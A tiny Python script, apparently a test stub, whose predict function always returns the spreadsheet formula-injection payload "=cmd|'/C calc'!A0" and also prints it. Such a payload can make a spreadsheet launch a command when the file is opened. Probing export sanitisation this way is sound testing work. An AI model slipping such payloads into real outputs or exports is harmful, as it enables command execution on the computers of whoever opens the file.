import sys

text = "=cmd|'/C calc'!A0"
sys.stdout.buffer.write(text.encode("utf-8", "surrogatepass") + b"\n")


def predict(image):
    return text
